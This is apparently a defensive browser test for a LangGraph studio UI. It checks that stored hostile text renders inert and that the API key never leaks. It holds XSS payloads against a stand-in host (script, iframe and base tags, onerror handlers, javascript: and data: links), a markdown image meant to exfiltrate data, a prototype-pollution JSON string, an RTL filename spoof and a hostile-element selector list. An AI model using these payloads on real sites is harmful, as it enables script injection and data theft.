/** What people and models wrote does nothing to the page, and a key stays where it belongs. */

import type { Client } from '@langchain/langgraph-sdk'
import { beforeAll, expect, it } from 'vitest'

import { openKeyMaker } from '../support/keys.ts'
import { clientOf, useServer } from '../support/server.ts'
import { expectQuiet, useBrowser } from './support/tab.ts'
import type { Tab } from './support/tab.ts'

const server = useServer({ args: ['--auth', 'keys'] })
const browser = useBrowser()

let key: string
let client: Client

beforeAll(async () => {
  const maker = await openKeyMaker({ dataDir: server.process.dataDir })
  key = await maker.make('acme', 'admin')
  await maker.close()
  client = clientOf(server.url, { 'x-api-key': key })
})

const evil = 'https://evil.example'
const markup = `<base href="${evil}/"><script src="${evil}/x.js"></script>` +
  `<img src="${evil}/x.png" onerror="alert(1)"><iframe src="${evil}"></iframe>` +
  `<style>@import "${evil}/x.css"</style><form action="${evil}"><svg onload="alert(1)">`
const links = '[one](javascript:alert(1)) [two](data:text/html,<script>alert(1)</script>) ' +
  '[three](vbscript:x) [four](//evil.example/x) <javascript:alert(1)> ' +
  `![leak](${evil}/leak.png?words) ![leak][ref]\n\n[ref]: ${evil}/leak2.png`
const turned = '‮⁧evil‭ gpj.exe‬⁩'
const hostile = [markup, links, `${'>'.repeat(10_000)} deep`, `${'- '.repeat(5_000)}deep`, turned,
  'w'.repeat(1_000_000), `${'['.repeat(20_000)}x`, `| ${'a | '.repeat(2_000)}`]
const title = `${markup}${turned}${'title '.repeat(1_700)}`.padEnd(10_000, 'x')

/** JSON text, since an object literal would set its prototype. */
const polluted = '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},' +
  '"toString":"x","<img src=x>":"<img src=x onerror=alert(1)>"}'

/** Creates what is shown: a conversation, a state with hostile keys, and a question. */
async function makeThreads() {
  const make = async (graph: string) =>
    (await client.threads.create({ graphId: graph, metadata: { title, [markup]: markup } }))
      .thread_id
  const [chat, state, question] = [await make('echo'), await make('ask'), await make('ask')]
  await client.threads.updateState(chat!, { asNode: 'echo', values: {
    messages: hostile.map((content, at) => ({ id: `m${at}`, content,
      role: at % 2 ? 'user' : 'ai' })
    ),
  } })
  await fetch(`${server.url}/threads/${state}/state`, { method: 'POST',
    headers: { 'content-type': 'application/json', 'x-api-key': key },
    body: `{"as_node":"ask","values":{"question":${polluted},"answers":[${polluted}]}}` })
  await client.runs.wait(question!, 'ask', {
    input: { question: `${markup}\n\n${links}\n\n${turned}\n\n${'w'.repeat(100_000)}` },
  })
  return { chat, state, question }
}

/** No element of what was written is in the page, and the page still answers. */
async function expectHarmless({ page }: Tab): Promise<void> {
  const evils = 'script:not([src^="./"]), iframe, form[action], base[href*=evil], ' +
    '[src*=evil], [href^="javascript" i], [href^="data" i], [href^="vbscript" i], [onerror], ' +
    '[onload], style'
  const found = await page.locator(evils).evaluateAll((all) =>
    all.map(({ outerHTML }) => outerHTML)
  )
  // The document itself has a script and a style, which the security policy names by their hashes.
  const own = await (await fetch(`${server.url}/studio/`)).text()
  expect(found.filter((html) => !own.includes(html)).map((html) => html.slice(0, 200))).toEqual([])
  expect(await page.evaluate('({}).polluted')).toBeUndefined()
  expect(await page.evaluate('document.querySelectorAll("*").length')).toBeLessThan(1_500)
  await expect.poll(() => page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(
    true,
  )
}

it('hostile words are words on every screen, and the key is given to nobody', async () => {
  const { chat, state, question } = await makeThreads()
  const tab = await browser.open(`${server.url}/studio/threads`, {
    expected: /status of (401|404)/,
  })
  const { page } = tab
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url()))
  page.on('dialog', (dialog) => asked.push(`dialog ${dialog.message()}`))
  await page.getByLabel('API key or session token').fill(key)
  await page.getByRole('button', { name: 'Sign in' }).click()
  await page.getByRole('row').filter({ hasText: '<base' }).first().waitFor()
  await expectHarmless(tab)

  await page.goto(`${server.url}/studio/threads/${chat}`)
  const log = page.getByRole('log', { name: 'Conversation' })
  await log.getByRole('article').last().waitFor()
  await log.focus()
  await expect.poll(async () => {
    await page.keyboard.press('Home')
    return log.getByText('<script').count()
  }).toBeGreaterThan(0)
  await expectHarmless(tab)
  const before = performance.now()
  await page.getByRole('tab', { name: 'State' }).click()
  await page.getByRole('tree', { name: 'values' }).getByRole('treeitem').nth(3).waitFor()
  console.log(`from hostile chat to its state: ${(performance.now() - before).toFixed(0)} ms`)
  await expectHarmless(tab)

  await page.goto(`${server.url}/studio/threads/${state}?view=state`)
  await page.getByRole('tree', { name: 'values' }).getByText('__proto__').first().waitFor()
  await expectHarmless(tab)

  await page.goto(`${server.url}/studio/inbox?at=${question}`)
  await page.getByRole('region', { name: 'Question', exact: true }).first().waitFor()
  await page.getByText('onerror').first().waitFor()
  await expectHarmless(tab)

  await page.goto(`${server.url}/studio/threads/00000000-0000-4000-8000-000000000000`)
  await page.getByRole('heading', { name: 'There is no such thread' }).waitFor()
  expect(await page.locator('body').innerText()).not.toContain(key)

  expect(asked.filter((url) => url.includes(key) || url.startsWith('dialog'))).toEqual([])
  expect(await page.evaluate('localStorage.length')).toBe(0)
  expect(page.url()).not.toContain(key)
  expect(server.process.output()).not.toContain(key)
  expect(server.process.output()).not.toContain(key.slice(-20))
  expectQuiet(tab)
  await tab.close()
})
